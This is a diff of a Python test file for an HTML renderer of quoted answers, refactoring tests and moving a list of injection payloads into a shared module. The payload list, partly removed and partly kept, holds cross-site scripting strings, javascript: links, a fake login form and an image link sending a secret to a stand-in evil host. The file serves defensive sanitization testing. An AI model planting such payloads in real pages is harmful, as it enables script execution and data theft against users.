@@ -10,6 +10,7 @@ from dataclasses import replace
 from html.parser import HTMLParser
 
 import pytest
+import served
 from hypothesis import example, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
@@ -43,15 +44,8 @@ OURS = {"div", "p", "ol", "li", "b", "strong", "blockquote", "a", "span", "br", 
 """The elements that an answer consists of."""
 
 PAYLOADS = (
-    "<script>alert(1)</script>",
-    '<img src="x" onerror="alert(1)">',
-    "![x](https://evil.test/?q=secret)",
-    "[click](javascript:alert(1))",
+    *served.PAYLOADS,
     "<https://evil.test> www.evil.test me@evil.test",
-    '<form action="https://evil.test"><button>Log in</button></form>',
-    '<div style="position:fixed;inset:0">',
-    "```mermaid\ngraph TD; A[<img src=x>]\n```",
-    "$$\\href{javascript:alert(1)}{x}$$",
     "    indented code\n\n# heading\n\n- item\n\n---\n| a | b |\n|---|---|",
     "&lt;b&gt; &amp; </div></li></ol>",
     '" onclick="alert(1)" x="',
@@ -420,24 +414,11 @@ def test_a_snapshot_says_that_a_better_one_follows(outcome: Outcome) -> None:
 OLD, NEW = datetime.date(2018, 10, 18), datetime.date(2019, 1, 2)
 
 
-@pytest.mark.parametrize(
-    ("outcome", "citations", "line"),
-    [
-        (Outcome.QUOTED, (cite(1, "Ab."),), LABELS[Outcome.QUOTED]),
-        (
-            Outcome.QUOTED,
-            (cite(1, "Ab.", date=OLD), cite(2, "Cd.", date=OLD)),
-            f"{LABELS[Outcome.QUOTED]}, as of 18 October 2018",
-        ),
-        # Each quotation has its own.
-        (Outcome.QUOTED, (cite(1, "Ab.", date=OLD), cite(2, "Cd.", date=NEW)), LABELS[Outcome.QUOTED]),
-    ],
-)
-def test_the_line_beside_says_what_it_rests_on_and_as_of_when(
-    outcome: Outcome, citations: tuple[Citation, ...], line: str
-) -> None:
-    """Words of an article or its record, and the date of all of them."""
-    assert headline(Answer("?", outcome, "Words.", citations)) == line
+@pytest.mark.parametrize(("dates", "as_of"), [((None,), ""), ((OLD, OLD), ", as of 18 October 2018"), ((OLD, NEW), "")])
+def test_the_line_beside_says_what_it_rests_on_and_as_of_when(dates: tuple[datetime.date, ...], as_of: str) -> None:
+    """Words of an article, and the date of all of them; where they differ, each quotation has its own."""
+    citations = tuple(cite(number, "Ab.", date=date) for number, date in enumerate(dates, start=1))
+    assert headline(Answer("?", Outcome.QUOTED, "Words.", citations)) == LABELS[Outcome.QUOTED] + as_of
 
 
 def test_only_the_operator_sees_why_the_model_failed() -> None:
@@ -471,14 +452,6 @@ def test_the_marked_words_are_those_at_the_offsets(
     assert squeezed(seen.marked) == squeezed("".join(c for offset, c in enumerate(text) if offset in marked))
     assert set(seen.tags) <= {"p", "mark", "br"}
     assert ("quote" in seen.all("id")) >= bool(squeezed(text[slice(*current)]))
-
-
-def test_a_quotation_over_two_paragraphs_is_marked_in_both() -> None:
-    """The marks together are the quotation, and the first is where the link leads."""
-    seen = Seen(article_paragraphs(an_article("One two.\n\nThree four."), (4, 15)))
-    assert seen.tags == ["p", "mark", "p", "mark"]
-    assert seen.marked == "two.Three"
-    assert seen.all("id") == ["paragraph-1", "quote", "paragraph-2"]
 
 
 def test_a_long_article_is_told_in_brief() -> None:
@@ -538,7 +511,8 @@ def test_the_header_says_in_a_readers_words_what_is_known() -> None:
         "The Paper",
         escape("It has no headline of its own: the title is from the file name."),
     ]
-    assert article_header(an_article("Text."), 2) == "<h2>A title</h2>"
+    for free in (True, None):  # That everybody may read it is not said.
+        assert article_header(replace(an_article("Text."), free=free), 2) == "<h2>A title</h2>"
 
 
 @pytest.mark.parametrize(
